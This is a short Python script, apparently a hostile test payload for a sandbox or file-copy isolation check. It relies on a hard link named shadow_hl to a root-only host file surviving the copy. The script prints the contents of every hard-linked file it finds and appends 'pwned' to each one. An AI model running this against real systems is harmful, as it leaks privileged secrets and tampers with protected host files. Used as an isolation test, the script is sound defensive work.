# Hostile: ships a hard link (shadow_hl) to a root-only file of the host. If it survives the
# copy (root reads it, so the copy holds the secret's bytes), it prints and rewrites it.
import os
print("start", flush=True)
for name in sorted(os.listdir(".")):
    try:
        st = os.lstat(name)
        if st.st_nlink < 2 and name != "shadow_hl":
            continue
        with open(name) as f:
            print(f"READ {name}: {f.read().strip()}", flush=True)
        with open(name, "a") as f:
            f.write("pwned\n")
        print(f"WROTE {name}", flush=True)
    except OSError as e:
        print(f"denied {name} ({type(e).__name__})", flush=True)
print("uid", os.getuid())
